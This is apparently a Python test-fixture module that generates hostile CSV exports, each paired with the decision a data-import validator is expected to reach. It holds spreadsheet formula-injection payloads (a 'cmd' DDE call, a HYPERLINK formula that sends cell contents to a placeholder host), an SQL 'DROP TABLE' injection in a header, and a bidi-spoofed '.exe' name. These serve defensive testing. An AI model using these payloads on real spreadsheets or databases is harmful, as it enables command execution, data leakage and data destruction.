"""One hostile delimited file per way in which a department's export can go wrong, and the decision it must get."""

from __future__ import annotations

from collections.abc import Iterator
from typing import NamedTuple

from tests.hostile.inbox import ADDRESS, DAY, HEADER, ID, INCOME, NAME, NUMBER, PHONE, changed, citizen_id, csv, rows

DAYS = (
    "2017/02/02", "20170303", "2017年4月4日", "42860", "05/01/2017", "2017-07-07 00:00:00", "2017-08-08T16:00:00Z",
    "民国106年9月9日", "2017-02-30", "2017-11",
)  # fmt: skip
"""Spellings of a date: the first four and the sixth are certain."""


class Case(NamedTuple):
    """A file and its right answer: decision, code, and the account in the order of landed.delivery."""

    name: str
    content: bytes
    decision: str = "accepted"
    code: str | None = None
    accepted: int = 20
    quarantined: int = 0
    duplicate: int = 0
    blank: int = 0
    total_line: int = 0
    encoding: str | None = "utf-8"


def refused(name: str, content: bytes, code: str) -> Case:
    return Case(name, content, "refused", code, 0, encoding=None)


def cases() -> Iterator[Case]:
    """Every delimited case; rows counted as rows_read are the sum of the account."""
    yield from _encodings()
    yield from _characters()
    yield from _values()
    yield from _headers()
    yield from _shapes()


def _encodings() -> Iterator[Case]:
    rare = changed({(1, NAME): "陈𬱟", (2, NAME): "王㛃", (3, NAME): "李𠮷"})
    yield Case("utf8", csv(rows()))
    yield Case("utf8_bom", csv(changed({(0, PHONE): "19900000777"}), encoding="utf-8-sig"), encoding="utf-8-sig")
    yield Case("gb18030_rare", csv(rare, encoding="gb18030"), encoding="gb18030")
    yield Case("utf16_le", b"\xff\xfe" + csv(rows(), encoding="utf-16-le"), encoding="utf-16-le")
    yield Case("utf16_be", b"\xfe\xff" + csv(rows(), encoding="utf-16-be"), encoding="utf-16-be")
    yield refused("utf16_odd", b"\xff\xfe" + csv(rows(), encoding="utf-16-le")[:-1], "E06_encoding")
    yield refused("utf16_without_mark", csv(rows(), encoding="utf-16-le"), "E06_encoding")
    half = csv(rows()[:10]) + csv(rows(), encoding="gb18030").split(b"\r\n", 11)[11]
    yield refused("utf8_then_gb18030", half, "E06_encoding")
    other = csv(rows()[:10], encoding="gb18030") + csv(rows()).split(b"\r\n", 11)[11]
    yield refused("gb18030_then_utf8", other, "E06_encoding")
    lines = csv(rows()).split(b"\r\n")
    lines[5] = lines[5].decode().encode("gb18030")
    yield Case("one_gb18030_line", b"\r\n".join(lines), accepted=19, quarantined=1)
    lines = csv(rows(), encoding="gb18030").split(b"\r\n")
    lines[7] = lines[7].decode("gb18030").encode()
    yield Case("one_utf8_line", b"\r\n".join(lines), accepted=19, quarantined=1, encoding="gb18030")
    broken = csv(rows(), encoding="gb18030").replace("测试路3号".encode("gb18030"), b"\x81\x20\xff")
    yield Case("broken_bytes", broken, accepted=19, quarantined=1, encoding="gb18030")


def _characters() -> Iterator[Case]:
    yield Case("nul", csv(changed({(2, NAME): "王\x00芳", (5, ADDRESS): "\x00\x00"})), accepted=18, quarantined=2)
    turned = {(0, NAME): "\u202e安陈\u202c", (1, ADDRESS): "路\u2066gnp.exe\u2069"}
    yield Case("bidi", csv(changed(turned)), accepted=18, quarantined=2)
    controls = {(0, NAME): "陈\x1b安", (3, NAME): "赵\x85梅"}
    yield Case("escape_and_c1", csv(changed(controls)), accepted=18, quarantined=2)
    ids = [citizen_id(900 + index) for index in range(4)]
    invisible = {
        (0, ID): "\u200b" + ids[0], (1, ID): ids[1][:6] + "\u200d" + ids[1][6:], (2, ID): ids[2] + "\ufeff",
        (3, ID): "\xa0" + ids[3] + "\u3000",
    }  # fmt: skip
    yield Case("zero_width", csv(changed(invisible)))
    marks = {(0, NAME): "=cmd|'/c calc'!A0", (1, NAME): "@SUM(1+1)", (2, NAME): "+1-1", (3, ADDRESS): "-2+3+cmd"}
    marks |= {(4, ADDRESS): '=HYPERLINK("http://x.invalid/?"&A1,"点此")', (5, ADDRESS): "\t=1+1", (7, ADDRESS): "＝1+1"}
    marks |= {(6, ADDRESS): "\r=1+1"}
    yield Case("formulas", csv(changed(marks)), accepted=17, quarantined=3)


def _values() -> Iterator[Case]:
    wide = citizen_id(7).translate({ord("0") + digit: 0xFF10 + digit for digit in range(10)})
    yield Case("full_width", csv(changed({(0, ID): wide, (2, INCOME): "２４９５．２３"})))
    yield refused("scientific_ids", csv(changed({(row, ID): "3.10100E+17" for row in range(20)})), "E20_id_digits")
    rounded = {(row, ID): f"3101011980010{row % 10}1000" for row in range(20)}
    yield refused("rounded_ids", csv(changed(rounded)), "E20_id_digits")
    yield Case("few_scientific_ids", csv(changed({(row, ID): "3.10100E+17" for row in range(4)})))
    tricks = {(0, ID): "'" + citizen_id(1), (1, ID): "\t" + citizen_id(2), (2, ID): f'="{citizen_id(3)}"'}
    yield Case("spreadsheet_text_marks", csv(changed(tricks)).replace(b'="', b'"=""').replace(b'",', b'""",'))
    amounts = ["1,234.56", "1，234.56", "￥1,234.00", "1234元", "1.2万", "(500.00)", "1 234.56", "1.234,56", "壹仟元"]
    written = csv(changed({(at, INCOME): text for at, text in enumerate(amounts)}))
    yield Case("amounts", written, accepted=16, quarantined=4)
    missing = ["", "NULL", "无", "-", "/", "N/A", "不详", "0", "\\N"]
    yield Case("missing_amounts", csv(changed({(at, INCOME): text for at, text in enumerate(missing)})))
    yield Case("dates", csv(changed({(at, DAY): text for at, text in enumerate(DAYS)})))
    again = [*rows(), [*rows()[0][:NAME], "完全不同", *rows()[0][ID:]], rows()[1]]
    yield Case("conflict_and_duplicate", csv(again), accepted=21, duplicate=1)


def _headers() -> Iterator[Case]:
    twice = csv([[*row, "1"] for row in rows()], [*HEADER, "申报存款"])
    yield refused("header_twice", twice, "E10_duplicate_header")
    attack = ['申报家庭月收入""; DROP TABLE person; --' if word == HEADER[INCOME] else word for word in HEADER]
    yield refused("header_with_sql", csv(rows(), attack), "E23_missing_column")
    yield refused("no_header", csv(rows()).split(b"\r\n", 1)[1], "E08_header")
    without = csv([row[:5] + row[6:] for row in rows()], HEADER[:5] + HEADER[6:])
    yield refused("column_missing", without, "E23_missing_column")
    yield refused("many_columns", csv(rows(), [*HEADER, *(f"x{at}" for at in range(20_000))]), "E09_columns")
    yield refused("other_separator", csv(rows()).replace(b",", b";"), "E25_separator")
    spaced = [f" {word}\u3000" for word in HEADER]
    yield Case("header_spaces", csv(changed({(0, PHONE): "19900000778"}), spaced))
    backwards = [row[::-1] for row in changed({(0, PHONE): "19900000779"})]
    yield Case("columns_reordered", csv(backwards, HEADER[::-1]))
    more = csv([[*row, "备用"] for row in rows()], [*HEADER, "内部备注"])
    yield Case("undeclared_column", more)
    fewer = csv([row[:PHONE] for row in rows()], HEADER[:PHONE])
    yield Case("column_left_out", fewer)
    titles = (["某区救助申请明细表", *[""] * 12], ["制表日期:2017-12-31", *[""] * 12])
    wide = "".join(",".join(title) + "\r\n" for title in titles)
    total = ",".join(["合计", "20人", *[""] * 11]) + "\r\n"
    yield Case("titles_and_total", wide.encode() + csv(rows()) + total.encode(), total_line=3)
    yield Case("header_only", csv([]), "held", "H01_no_rows", 0)


def _shapes() -> Iterator[Case]:
    lines = csv(rows()).split(b"\r\n")
    short = [*lines[:4], lines[4].rsplit(b",", 1)[0], *lines[5:]]
    yield Case("short_row", b"\r\n".join(short), accepted=19, quarantined=1)
    both = [*short[:8], short[8] + b",x", *short[9:]]
    yield Case("short_and_long_row", b"\r\n".join(both), accepted=18, quarantined=2)
    opened = [*lines[:4], lines[4].replace("测试路".encode(), '"测试路'.encode()), *lines[5:]]
    yield refused("unclosed_quote", b"\r\n".join(opened), "E12_unclosed_quote")
    yield Case("stray_quotes", csv(rows()).replace("测试路4号".encode(), '测试路"4"号'.encode()))
    reopened = csv(rows()).replace("测试路4号".encode(), '"测试"路4号'.encode())
    yield Case("bad_quotes", reopened, accepted=19, quarantined=1)
    yield Case("line_ends_in_a_field", csv(changed({(3, ADDRESS): "测试路\n3号\r\n后门"})))
    mixed = b"".join(line + (b"\r\n", b"\n", b"\r")[at % 3] for at, line in enumerate(lines[:-1]))
    yield Case("mixed_line_ends", mixed)
    yield Case("old_line_ends", csv(changed({(0, NUMBER): "SQ000100"}), newline="\r"))
    yield Case("no_last_line_end", csv(changed({(0, NUMBER): "SQ000101"})).removesuffix(b"\r\n"))
    empty = b"\r\n" + b",,,,,,,,,,,,\r\n" + b"   \r\n"
    yield Case("blank_rows", b"\r\n".join(lines[:2]) + b"\r\n" + empty * 3 + b"\r\n".join(lines[2:]), blank=9)
    yield refused("empty", b"", "E03_empty")
    yield Case("giant_field", csv(changed({(3, ADDRESS): '"' + "路" * 700_000 + '"'})), accepted=19, quarantined=1)
    yield refused("no_line_end_at_all", b"x," * (3 << 20), "E07_line_length")
    yield refused("error_page", b"<html><body>502 Bad Gateway</body></html>\r\n", "E04_magic")
    yield refused("workbook_named_csv", b"PK\x03\x04" + bytes(100), "E04_magic")
    yield refused("parquet_named_csv", b"PAR1" + bytes(100) + b"PAR1", "E04_magic")
    yield refused("packed", b"\x1f\x8b\x08" + bytes(100), "E04_magic")
    every = b"\r\n".join(b",".join(b'"' + cell + b'"' for cell in line.split(b",")) for line in lines[:-1])
    yield Case("everything_quoted", every)
